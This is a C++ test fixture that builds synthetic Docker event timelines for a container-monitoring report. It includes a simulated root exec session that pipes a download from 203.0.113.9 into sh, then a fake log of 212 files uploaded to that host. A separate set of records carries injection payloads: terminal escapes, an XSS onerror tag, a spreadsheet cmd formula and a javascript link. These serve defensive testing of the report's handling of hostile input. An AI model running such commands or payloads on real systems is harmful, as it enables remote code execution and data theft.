#include "report/timeline_fixture.h"

#include <fmt/format.h>
#include <gtest/gtest.h>

#include <cstdlib>
#include <ctime>
#include <string>
#include <utility>

#include "report/timeline_words.h"

namespace plimsoll::report::fixture {

using model::Event;

namespace {

constexpr Nanoseconds kMinute = 60 * kSecond;
constexpr Nanoseconds kHour = 60 * kMinute;
constexpr const char* kOld = "4f1c0a7be812";
constexpr const char* kNew = "77aa01c2d3e4";

class Recording {
public:
    Event& add(Nanoseconds time, const char* kind) {
        Event& event = events_.emplace_back(time);
        event.set("record.kind", kind);
        event.set_unsigned("record.number", next_++);
        return event;
    }

    Event& of(Nanoseconds time, const char* kind, std::string_view id, std::string_view name) {
        Event& event = add(time, kind);
        event.set("container.id", id);
        event.set("container.name", name);
        return event;
    }

    Event& engine(Nanoseconds time, const char* action, std::string_view id, std::string_view name) {
        Event& event = of(time, "event", id, name);
        event.set("docker.type", "container");
        event.set("docker.action", action);
        event.set("docker.id", id);
        return event;
    }

    Event& shop(Nanoseconds time, const char* action, const char* id = kOld) {
        Event& event = engine(time, action, id, "shop");
        event.set("container.image", id == kOld ? "shop:1.27" : "shop:1.28");
        event.set("container.image.digest", id == kOld ? "sha256:aa17c0ffee00aa17" : "sha256:bb28deadbeefbb28");
        event.set("container.compose.project", "store");
        event.set("container.compose.service", "shop");
        return event;
    }

    void network(Nanoseconds time, const char* action, const char* id) {
        Event& event = of(time, "event", id, "shop");
        event.set("docker.type", "network");
        event.set("docker.action", action);
        event.set("docker.name", "store_default");
    }

    void sample(Nanoseconds time, const char* id, const char* name, double cpu, std::uint64_t mebibytes,
                std::uint64_t cpu_seconds) {
        Event& event = of(time, "sample", id, name);
        event.set_real("usage.cpu", cpu);
        event.set_unsigned("usage.cpu.ns", cpu_seconds * kSecond);
        event.set_unsigned("usage.memory", mebibytes << 20U);
        event.set_unsigned("usage.memory.limit", std::uint64_t{512} << 20U);
        event.set_unsigned("usage.pids", 9);
        event.set_unsigned("usage.net.received", cpu_seconds * 70'000);
        event.set_unsigned("usage.net.sent", cpu_seconds * 900'000);
        event.set_unsigned("usage.io.written", cpu_seconds * 4096);
    }

    Event& session(Nanoseconds start, const char* id, const char* command, const char* user, Nanoseconds length,
                   std::int64_t code) {
        for (const char* step : {"exec_create", "exec_start", "exec_die"}) {
            Event& raw = shop(start, step);
            raw.set("exec.id", id);
            raw.set("exec.command", command);
        }
        Event& event = of(start + length, "session", kOld, "shop");
        event.set("exec.id", id);
        event.set("exec.command", command);
        event.set("exec.user", user);
        event.set_number("exec.start_ts", start);
        event.set_number("exec.duration", length);
        event.set_number("exec.exit_code", code);
        return event;
    }

    Event& alert(Nanoseconds time, const char* rule, const char* priority, const char* output) {
        Event& event = of(time, "alert", kOld, "shop");
        event.set("alert.rule", rule);
        event.set("alert.priority", priority);
        event.set("alert.output", output);
        return event;
    }

    std::vector<Event> take() { return std::move(events_); }

private:
    std::vector<Event> events_;
    std::uint64_t next_ = 100;
};

/// Monday: deployed by compose, the recorder restarted at night.
void monday(Recording& to) {
    const Nanoseconds deployed = kThree - 18 * kHour;
    Event& start = to.add(deployed - kHour, "start");
    start.set("ledger.host", "web-01");
    start.set("ledger.version", "0.2.0");
    Event& created = to.shop(deployed, "create");
    created.set("container.command", "/usr/bin/shop --port 8080");
    created.set("change.after",
                R"({"HostConfig":{"CapAdd":["SYS_PTRACE"],"Binds":["/var/run/docker.sock:/run/docker.sock"]}})");
    to.network(deployed + kSecond / 10, "connect", kOld);
    to.shop(deployed + kSecond, "start").set("container.started_by", "compose");
    to.shop(deployed + 30 * kSecond, "health_status").set("container.health.status", "healthy");
}

void leak_and_death(Recording& to) {
    for (int i = -80; i < 66; ++i) {
        const auto memory = i < 0 ? 40U + static_cast<unsigned>(i & 1) : static_cast<unsigned>(40 + 7 * i);
        to.sample(kThree + i * 10 * kSecond, kOld, "shop", i < 0 ? 2.0 : 61.0 + i % 5 * 8, memory,
                  3000U + static_cast<unsigned>(i + 80) * 6);
    }
    to.shop(kThree + 11 * kMinute, "oom");
    Event& died = to.shop(kThree + 11 * kMinute + 200'000'000, "die");
    died.set_number("container.exit_code", 137);
    died.set_number("container.lifetime", 18 * kHour + 11 * kMinute);
    to.network(kThree + 11 * kMinute + 300'000'000, "disconnect", kOld);
    to.network(kThree + 11 * kMinute + kSecond, "connect", kOld);
    to.shop(kThree + 11 * kMinute + 2 * kSecond, "start").set("container.started_by", "its restart policy (always)");
}

void the_hour(Recording& to) {
    for (int i = 0; i < 4; ++i) {
        Event& check = to.session(kThree - 14 * kMinute + i * 30 * kSecond, fmt::format("h{}", i).c_str(),
                                  "/bin/sh -c curl -f localhost", "", kSecond / 20, 0);
        check.set("container.healthcheck", "curl -f localhost");
    }
    Event& exec = to.session(kThree - 9 * kMinute, "e1", "sh -c 'id; curl http://203.0.113.9/x | sh'", "root",
                             2 * kMinute + 14 * kSecond, 0);
    exec.set("exec.tty", true);
    Event& alert = to.alert(kThree - 9 * kMinute + kSecond, "Shell started in a container", "Warning",
                            "root ran sh in shop (shop:1.27) with a terminal");
    const auto alert_number = alert.number("record.number");
    Event& line = to.of(kThree - 7 * kMinute, "line", kOld, "shop");
    line.set("log.line", "upload of 212 files to 203.0.113.9 finished");
    line.set("log.stream", "stderr");
    leak_and_death(to);
    to.shop(kThree + 12 * kMinute, "health_status").set("container.health.status", "unhealthy");
    Event& update = to.shop(kThree + 13 * kMinute, "update");
    const std::vector<std::string> paths = {"HostConfig.Memory: 536870912 -> 1073741824"};
    update.set_list("change.paths", paths);
    update.set("record.reconciled", true);
    Event& loss = to.add(kThree + 14 * kMinute, "loss");
    loss.set("loss.what", "engine-events");
    loss.set_number("loss.from", kThree + 12 * kMinute + 10 * kSecond);
    loss.set_number("loss.until", kThree + 14 * kMinute);
    loss.set("loss.reason", "the engine was restarted");
    Event& ack = to.add(kThree + 5 * kHour, "ack");
    ack.set_unsigned("ack.alert", alert_number);
    ack.set("ack.by", "anna");
    ack.set("ack.reason", "red team exercise");
}

void new_version(Recording& to) {
    const Nanoseconds time = kThree + 20 * kMinute;
    to.shop(time, "kill").set_keyed("docker.attributes", "signal", "15");
    Event& died = to.shop(time + kSecond, "die");
    died.set_keyed("docker.attributes", "exitCode", "143");
    died.set_number("container.lifetime", 9 * kMinute);
    to.shop(time + 2 * kSecond, "stop");
    to.shop(time + 3 * kSecond, "destroy");
    Event& created = to.shop(time + 4 * kSecond, "create", kNew);
    created.set("container.image.new", true);
    to.shop(time + 5 * kSecond, "start", kNew).set("container.started_by", "compose");
    for (int i = 0; i < 20; ++i) {
        Event& line = to.of(time + (6 + i) * kSecond, "line", kNew, "shop");
        line.set("log.line", fmt::format("migration {} of 20 done", i + 1));
    }
    for (int i = 0; i < 5; ++i)
        to.sample(time + (30 + 10 * i) * kSecond, kNew, "shop", 4, 52, 2U + static_cast<unsigned>(i));
}

/// What happened elsewhere on the host: for the report, not for shop's timeline.
void neighbours(Recording& to) {
    for (int i = 0; i < 5; ++i) {
        const Nanoseconds time = kThree + i * 70 * kSecond;
        to.engine(time, "start", "9b2d17aa0c55", "mailer").set("container.started_by", "its restart policy (always)");
        Event& died = to.engine(time + 8 * kSecond, "die", "9b2d17aa0c55", "mailer");
        died.set_number("container.exit_code", 1);
        died.set("container.image", "mail:3");
    }
    for (int i = 0; i < 3; ++i) {
        Event& line = to.add(kThree + i * kMinute, "line");
        line.set("log.unit", "docker.service");
        line.set("log.level", "error");
        line.set("log.kind", "tls");
        line.set("log.line", fmt::format("TLS handshake error from 198.51.100.{}:40{:03}: bad certificate", i, i));
    }
    Event& pull = to.add(kThree + 19 * kMinute, "event");
    pull.set("docker.type", "image");
    pull.set("docker.action", "pull");
    pull.set("docker.id", "shop:1.28");
    Event& stop = to.add(kThree + 30 * kMinute, "stop");
    stop.set("ledger.host", "web-01");
    to.add(kThree + 33 * kMinute, "start").set("ledger.host", "web-01");
}

}  // namespace

void use_central_europe() {
    ::setenv("TZ", "CET-1CEST,M3.5.0,M10.5.0/3", 1);
    ::tzset();
}

std::vector<Event> night() {
    Recording to;
    monday(to);
    the_hour(to);
    new_version(to);
    neighbours(to);
    return to.take();
}

std::vector<Event> hostile_records() {
    static constexpr const char* kEvil =
        "\x1b]0;owned\x07\xe2\x80\xae<img src=x onerror=alert(1)>=cmd|' /C calc'!A0\r\n| `x` [y](javascript:z) "
        "\xff\xc2\x9b</script>";
    Recording to;
    Event& created = to.engine(kThree - kMinute, "create", "e1e1e1e1e1e1", kEvil);
    created.set("container.image", kEvil);
    created.set("container.command", kEvil);
    created.set("container.compose.project", kEvil);
    created.set("change.after", kEvil);
    created.set("container.mounts", kEvil);
    to.engine(kThree - kMinute + kSecond, "start", "e1e1e1e1e1e1", kEvil).set("container.started_by", kEvil);
    Event& session = to.of(kThree, "session", "e1e1e1e1e1e1", kEvil);
    session.set("exec.command", kEvil);
    session.set("exec.user", kEvil);
    session.set("exec.tty", true);
    session.set_number("exec.exit_code", -7);
    Event& alert = to.of(kThree, "alert", "e1e1e1e1e1e1", kEvil);
    for (const model::FieldKey field :
         {model::FieldKey("alert.rule"), model::FieldKey("alert.priority"), model::FieldKey("alert.output")})
        alert.set(field, kEvil);
    Event& line = to.of(kThree + kSecond, "line", "e1e1e1e1e1e1", kEvil);
    line.set("log.line", kEvil);
    Event& daemon = to.add(kThree + kSecond, "line");
    daemon.set("log.unit", kEvil);
    daemon.set("log.level", "error");
    daemon.set("log.line", kEvil);
    Event& loss = to.add(kThree + 2 * kSecond, "loss");
    loss.set("loss.what", kEvil);
    loss.set("loss.reason", kEvil);
    to.engine(kThree + 3 * kSecond, kEvil, "e1e1e1e1e1e1", kEvil);
    Event& died = to.engine(kThree + 4 * kSecond, "die", "e1e1e1e1e1e1", kEvil);
    died.set_keyed("docker.attributes", "exitCode", kEvil);
    Event& wild = to.of(kThree + 5 * kSecond, "sample", "e1e1e1e1e1e1", kEvil);
    wild.set_unsigned("usage.memory", ~std::uint64_t{0});
    wild.set_real("usage.cpu", -1e300);
    return to.take();
}

TEST(TimelineFixture, three_at_night_is_a_tuesday) {
    use_central_europe();
    EXPECT_EQ(words::day(kThree), "Tuesday, 17 November 2026");
    EXPECT_EQ(words::moment(kThree), "2026-11-17 03:00:00");
}

}  // namespace plimsoll::report::fixture
